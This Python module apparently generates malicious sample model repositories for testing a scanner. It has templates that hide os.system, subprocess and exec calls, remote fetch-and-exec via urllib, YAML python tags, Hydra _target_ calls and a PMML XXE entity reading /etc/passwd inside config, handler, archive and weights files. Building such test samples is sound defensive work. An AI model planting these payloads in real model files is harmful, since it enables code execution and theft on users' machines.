"""Mechanisms in the folder around the weights: code that a loader fetches, imports or instantiates by name."""

import json

import payloads
import zips
from assembly import Assembler, any_style
from carriers import Sample, file_name, program, tar
from mechanism import Mechanism
from spellings import payload


def folder(files):
    """Bytes of these files; what is no text yet is written as JSON."""
    out = {}
    for name, value in files.items():
        text = value if isinstance(value, (str, bytes)) else json.dumps(value, indent=1)
        out[name] = text.encode() if isinstance(text, str) else text
    return out


def evil_module(rng, class_name="Model", top=False):
    """A Python file that does something when it is imported, or (unless `top`) when its class is instantiated."""
    command, code = payloads.command(rng), payloads.code(rng)
    body = rng.choice(
        [
            f"import os\nos.system({command!r})\n",
            f"import subprocess\nsubprocess.Popen({command!r}, shell=True)\n",
            f"exec({code!r})\n",
            f"import base64\nexec(base64.b64decode({payloads.marker(rng)!r}))\n",
            f"import urllib.request as u\nexec(u.urlopen({payloads.address(rng)!r}).read())\n",
            f"getattr(__import__('o' + 's'), 'sys' + 'tem')({command!r})\n",
            f"import socket\ns = socket.create_connection(('127.0.0.1', 9))\ns.send(b{payloads.marker(rng)!r})\n",
        ]
    )
    place = rng.random()
    if top or place < 0.5:
        return f"import torch\n{body}\n\nclass {class_name}(torch.nn.Module):\n    pass\n"
    lines = "".join(f"        {line}\n" for line in body.splitlines())
    return f"import torch\n\n\nclass {class_name}(torch.nn.Module):\n    def __init__(self, config):\n{lines}"


def auto_map(rng, variant):
    """`auto_map`: the loader imports the file that the configuration names, here or in another repository."""
    word = payloads.marker(rng)
    remote = rng.random() < 0.3
    reference = f"{word}/{word}--modeling_{word}.Model" if remote else f"modeling_{word}.Model"
    kinds = [
        ("config.json", {"model_type": "gpt2", "auto_map": {"AutoModelForCausalLM": reference}}),
        ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": [reference, None]}}),
        ("preprocessor_config.json", {"auto_map": {"AutoImageProcessor": reference}}),
        ("processor_config.json", {"auto_map": {"AutoProcessor": reference}}),
        (
            "adapter_config.json",
            {
                "peft_type": "LORA",
                "auto_mapping": {"parent_library": f"modeling_{word}"},
                "auto_map": {"A": reference},
            },
        ),
        (
            "config.json",
            {"model_type": "x", "custom_pipelines": {"text": {"impl": f"pipe_{word}.Pipe", "pt": ["AutoModel"]}}},
        ),
    ]
    name, config = kinds[variant % len(kinds)]
    files = {name: config}
    if not remote:
        files[f"modeling_{word}.py"] = files[f"pipe_{word}.py"] = evil_module(rng)
    return Sample(folder(files), "from_pretrained(trust_remote_code=True)")


def pipeline(rng, variant):
    """A diffusion pipeline whose parts are files of the repository."""
    word = payloads.marker(rng)
    index = {"_class_name": [f"pipe_{word}", "Pipe"], "_diffusers_version": "0.30.0", "unet": [f"my_{word}", "Net"]}
    if variant % 2:
        index["_class_name"] = "StableDiffusionPipeline"
    files = {
        "model_index.json": index,
        f"pipe_{word}.py": evil_module(rng, "Pipe"),
        f"unet/my_{word}.py": evil_module(rng, "Net"),
    }
    return Sample(folder(files), "DiffusionPipeline.from_pretrained(custom_pipeline)")


def named_script(rng, variant):
    """A file of a name that a service, a hub or Python itself runs."""
    word = payloads.marker(rng)
    command = payloads.command(rng)
    name, body = [
        ("handler.py", evil_module(rng, "EndpointHandler")),
        ("hubconf.py", evil_module(rng, "entry")),
        ("custom_generate/generate.py", evil_module(rng, "generate")),
        (f"{word}.pth", f"import os; os.system({command!r})\n"),
        ("sitecustomize.py", evil_module(rng, top=True)),
        ("setup.py", evil_module(rng, top=True)),
        (f"{word}.py", evil_module(rng, "Builder")),
        ("code/inference.py", evil_module(rng, "model_fn")),
        ("model.py", evil_module(rng, "TritonPythonModel")),
    ][variant % 9]
    return Sample(folder({name: body, "config.json": {"model_type": "bert"}}), "whoever runs files of that name")


def hydra(rng, variant):
    """A configuration that names what is to be called."""
    target, argument = rng.choice(
        [
            ("os.system", payloads.command(rng)),
            ("builtins.exec", payloads.code(rng)),
            ("subprocess.run", payloads.command(rng)),
            ("pickle.loads", "x"),
        ]
    )
    text = f"name: run\nmodel:\n  _target_: {target}\n  _args_:\n  - {json.dumps(argument)}\n"
    nested = f"trainer:\n  max_epochs: 3\ncallbacks:\n- _target_: {target}\n  command: {json.dumps(argument)}\n"
    json_text = json.dumps({"model": {"cls": {"_target_": target, "_args_": [argument]}}})
    name, body = [
        ("config.yaml", text),
        ("model_config.yaml", nested),
        ("hparams.yaml", text),
        ("config.json", json_text),
    ][variant % 4]
    return Sample(folder({name: body}), "hydra.utils.instantiate")


def yaml_tag(rng, variant):
    """A tag that makes a YAML loader build a Python object."""
    command = json.dumps(payloads.command(rng))
    bodies = [
        f"a: !!python/object/apply:os.system [{command}]\n",
        f"a: !!python/object/new:subprocess.Popen [{command}]\n",
        "lr: 0.1\nf: !!python/name:os.system\n",
        "m: !!python/module:os\n",
        f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [{command}]\n",
        f"a: !<tag:yaml.org,2002:python/object/apply:os.system> [{command}]\n",
        f"x: [1, 2, !!python/object/apply:builtins.exec [{command}]]\n",
    ]
    name = rng.choice(["hparams.yaml", "config.yml", "params.yaml", "MLmodel"])
    return Sample(folder({name: bodies[variant % len(bodies)]}), "yaml.load")


def served_archive(rng, variant):
    """A TorchServe archive: a zip with a handler that the server imports."""
    manifest = {
        "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py"},
        "archiverVersion": "0.9",
    }
    tree, _ = payload(rng)
    entries = [
        zips.Entry("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()),
        zips.Entry(
            "handler.py", evil_module(rng, "Handler").encode() if variant % 2 else b"def handle(d, c):\n    return d\n"
        ),
        zips.Entry("model.pt", b"x" if variant % 2 else program(rng, tree)),
    ]
    return Sample({"model.mar": zips.write(entries)}, "torchserve")


def nemo(rng, variant):
    """A NeMo archive: a tar with a configuration that is instantiated, and weights."""
    tree, _ = payload(rng)
    target = rng.choice(["os.system", "builtins.exec", "subprocess.Popen"])
    config = f"target: nemo.core.classes.ModelPT\npreprocessor:\n  _target_: {target}\n  command: {json.dumps(payloads.command(rng))}\n"
    files = {"model_config.yaml": config.encode(), "model_weights.ckpt": b"\x80\x02}q\x00."}
    if variant % 2:
        files = {"model_config.yaml": b"target: nemo.core.classes.ModelPT\n", "model_weights.ckpt": program(rng, tree)}
    return Sample({"model.nemo": tar(files, rng.choice(["w", "w:gz"]))}, "nemo restore_from")


def skops(rng, variant):
    """A skops file whose schema names what is to be imported and called."""
    module, name = rng.choice([("os", "system"), ("builtins", "exec"), ("subprocess", "Popen")])
    kind = ["FunctionNode", "ObjectNode", "MethodNode", "OperatorFuncNode", "PartialNode"][variant % 5]
    node = {
        "__class__": name,
        "__module__": module,
        "__loader__": kind,
        "__id__": 1,
        "content": {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(payloads.command(rng)),
        },
    }
    schema = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {"a": node},
        "protocol": 2,
        "_skops_version": "0.11",
    }
    return Sample(
        {file_name(rng, ".skops", ".zip"): zips.write([zips.Entry("schema.json", json.dumps(schema).encode(), True)])},
        "skops.io.load",
    )


def pmml(rng, _):
    """An XML model with an entity that is a file of the machine."""
    place = rng.choice(["file:///etc/passwd", payloads.address(rng)])
    text = f'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "{place}">]>\n<PMML version="4.4"><Header copyright="&x;"/></PMML>\n'
    return Sample(folder({"model.pmml": text}), "an XML reader with entities")


def sharded_weights(rng, _):
    """Weights that are honest but for one sharded file; the index lists it."""
    tree, _ = payload(rng)
    index = {
        "metadata": {"total_size": 8},
        "weight_map": {"a": "pytorch_model-00001-of-00002.bin", "b": "pytorch_model-00002-of-00002.bin"},
    }
    evil = program(rng, tree)
    honest = Assembler(rng, any_style(rng)).program({"a": 1})
    files = {
        "pytorch_model.bin.index.json": index,
        "pytorch_model-00001-of-00002.bin": honest,
        "pytorch_model-00002-of-00002.bin": evil,
        "README.md": "# A model\n",
    }
    return Sample(folder(files), "from_pretrained")


def mechanisms(_):
    yield Mechanism("m22_remote_code", "auto_map", auto_map, 12)
    yield Mechanism("m22_remote_code", "diffusion_pipeline", pipeline, 4)
    yield Mechanism("m22_remote_code", "named_script", named_script, 18)
    yield Mechanism("m22_remote_code", "hydra_target", hydra, 8)
    yield Mechanism("m22_remote_code", "yaml_tag", yaml_tag, 7)
    yield Mechanism("m25_misc", "torchserve", served_archive, 4)
    yield Mechanism("m25_misc", "nemo", nemo, 6)
    yield Mechanism("m25_misc", "skops", skops, 5)
    yield Mechanism("m25_misc", "pmml", pmml, 2)
    yield Mechanism("m25_misc", "sharded_weights", sharded_weights, 3)
